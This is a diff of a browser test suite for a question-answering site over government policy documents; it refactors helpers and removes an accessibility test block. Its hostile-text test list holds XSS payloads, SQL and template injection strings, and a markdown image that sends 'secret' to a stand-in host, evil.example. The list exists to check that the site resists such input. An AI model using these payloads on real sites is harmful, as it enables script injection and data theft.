@@ -1,71 +1,30 @@
 // The pages in a real Chromium over the real documents: asking in three scripts, follow-ups, sources in place, permalinks,
-// declines, failures, the keyboard alone, no scripts at all, accessibility of every view, and hostile text. Runs by
+// declines, failures, the keyboard alone, no scripts at all, and hostile text. Runs by
 // `npm run test:browser`; where there is no Chromium it says SKIPPED.
-import { mkdirSync, mkdtempSync } from "node:fs";
 import { readFile } from "node:fs/promises";
-import { tmpdir } from "node:os";
-import { join } from "node:path";
 import mammoth from "mammoth";
-import { chromium } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { CHROMIUM, FLAGS, sayIfSkipped, startService, violations } from "./chromium.mjs";
+import { ask, openPage, startService } from "../support/browser-service.mjs";
+import { CHROMIUM, launchChromium, sayIfSkipped } from "../support/chromium.mjs";
 
-/** Pictures go outside the repository. */
-const PICTURES = process.env.YOUJU_SCREENSHOTS ?? mkdtempSync(join(tmpdir(), "youju-pages-"));
 const QUESTION = "How many InnoHK research laboratories are there?";
 
-sayIfSkipped("The pages were");
+sayIfSkipped("The pages' suite");
 
 describe.skipIf(CHROMIUM === undefined)("the pages in a browser", () => {
   let browser;
   let service;
 
   beforeAll(async () => {
-    mkdirSync(PICTURES, { recursive: true });
-    [service, browser] = await Promise.all([
-      startService(),
-      chromium.launch({ executablePath: CHROMIUM, args: FLAGS }),
-    ]);
+    [service, browser] = await Promise.all([startService(), launchChromium()]);
   }, 180_000);
 
   afterAll(async () => {
     await browser?.close();
     await service?.stop();
-    console.log(`Pictures of the pages: ${PICTURES}`);
   });
 
-  /** `bypass` lets axe in past the page's own policy. */
-  async function open(path, options = {}) {
-    const { width = 1280, scheme = "light", bypass = false, script = true } = options;
-    const context = await browser.newContext({
-      viewport: { width, height: 900 },
-      colorScheme: scheme,
-      locale: "en-HK",
-      bypassCSP: bypass,
-      javaScriptEnabled: script,
-      reducedMotion: "reduce",
-      acceptDownloads: true,
-      permissions: ["clipboard-read", "clipboard-write"],
-    });
-    const page = await context.newPage();
-    const troubles = [];
-    const requests = [];
-    page.on("console", (message) => message.type() === "error" && troubles.push(message.text()));
-    page.on("pageerror", (error) => troubles.push(error.message));
-    page.on("request", (request) => requests.push(request.url()));
-    page.on("dialog", (dialog) => dialog.accept());
-    await page.goto(service.url + path);
-    return { page, troubles, requests, close: () => context.close() };
-  }
-
-  async function ask(page, question) {
-    const before = await page.locator(".turn").count();
-    await page.fill("#question", question);
-    await page.click("#ask");
-    const turn = page.locator(".turn").nth(before);
-    await turn.locator(".found, .problem").first().waitFor();
-    return turn;
-  }
+  const open = (path, options) => openPage(browser, service.url + path, options);
 
   describe("asking", () => {
     it.each([
@@ -169,6 +128,7 @@ describe.skipIf(CHROMIUM === undefined)("the pages in a browser", () => {
       const declined = await ask(page, "What is the weather tomorrow?");
       expect(await declined.locator(".declined").innerText()).toContain("1823");
       expect(await declined.locator(".source-item").count()).toBeGreaterThan(0);
+      await page.click("[data-action=clear]");
       const differing = await ask(page, QUESTION);
       expect(await differing.locator(".notices").innerText()).toContain("Figures differ");
       await differing.locator(".found > summary").click();
@@ -364,7 +324,7 @@ describe.skipIf(CHROMIUM === undefined)("the pages in a browser", () => {
       "</textarea><svg onload=globalThis.broken=1>",
       "![x](http://evil.example/?q=secret) [x](javascript:globalThis.broken=1)",
       "\u202Edesrever\u2066 創\u200B科 \u{E0041}\u{E0042}",
-      "{{7*7}} ${7*7} <%= 7*7 %> '; DROP TABLE x; --",
+      "{{7*7}} #{7*7} <%= 7*7 %> '; DROP TABLE x; --",
       "‮ ZWJ 👨‍👩‍👧‍👦 flags 🇭🇰 zalgo Z̸̢̛͖a̷l̵g̶o̴",
     ];
 
@@ -439,77 +399,5 @@ describe.skipIf(CHROMIUM === undefined)("the pages in a browser", () => {
       const links = await page.locator("a[href]").evaluateAll((all) => all.map((each) => each.href));
       expect(links.filter((link) => !link.startsWith(service.url))).toEqual([]);
     }
-  });
-
-  describe("every view", () => {
-    const opened = async (page) => {
-      const turn = await ask(page, QUESTION);
-      await turn.locator(".ref").first().click();
-      await turn.locator(".found > summary").click();
-      await turn.locator("[data-action=unhelpful]").click();
-    };
-    const VIEWS = [
-      ["home", "/", async (page) => page.click(".options summary")],
-      ["answer", "/", (page) => ask(page, QUESTION)],
-      ["opened", "/", opened],
-      ["decline", "/", (page) => ask(page, "What is the weather tomorrow?")],
-      [
-        "problem",
-        "/",
-        async (page) => {
-          await page.route("**/api/ask", (route) => route.abort());
-          await ask(page, QUESTION);
-        },
-      ],
-      ["documents", "/documents"],
-      ["document", "/documents/policy-address-2024-ch4.en?beside=true"],
-      ["paragraph", "/paragraphs/policy-address-2024-ch4.en%23p17?quote=0-60"],
-      ["bureaux", "/bureaux"],
-      ["bureau", "/bureaux/HHB"],
-      ["timeline", "/timeline?topic=innohk-research-cluster"],
-      [
-        "desk",
-        "/replies",
-        async (page) => {
-          await page.fill("#desk-question", `(1) ${QUESTION}\n(2) how many dogs are subsidised?`);
-          await page.click("#draft");
-          await page.click(".desk-statement [data-action=swap]");
-          await page.waitForSelector(".candidates");
-        },
-      ],
-      ["privacy", "/privacy"],
-      ["missing", "/documents/none"],
-    ];
-
-    it.each(
-      VIEWS.flatMap(([name, path, act]) => [
-        [name, 1280, "light", "en", path, act],
-        [name, 768, "dark", "zh-Hans", path, act],
-        [name, 320, "dark", "zh-Hant", path, act],
-      ]),
-    )(
-      "%s at %i px, %s, %s has no violations and no sideways scrolling",
-      { timeout: 120_000 },
-      async (name, width, scheme, tongue, path, act) => {
-        const join2 = path.includes("?") ? "&" : "?";
-        const { page, close } = await open(`${path}${join2}lang=${tongue}`, { width, scheme, bypass: true });
-        await act?.(page);
-        await page.screenshot({ path: join(PICTURES, `${name}-${width}-${scheme}.png`), fullPage: true });
-        expect(await violations(page)).toEqual([]);
-        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(width);
-        const small = await page
-          .locator("button:visible, select:visible, summary:visible, nav a:visible, .chip:visible")
-          .evaluateAll((all) =>
-            all
-              .filter((each) => {
-                const { width: wide, height } = each.getBoundingClientRect();
-                return wide < 24 || height < 24;
-              })
-              .map((each) => each.outerHTML.slice(0, 120)),
-          );
-        expect(small).toEqual([]);
-        await close();
-      },
-    );
   });
 });
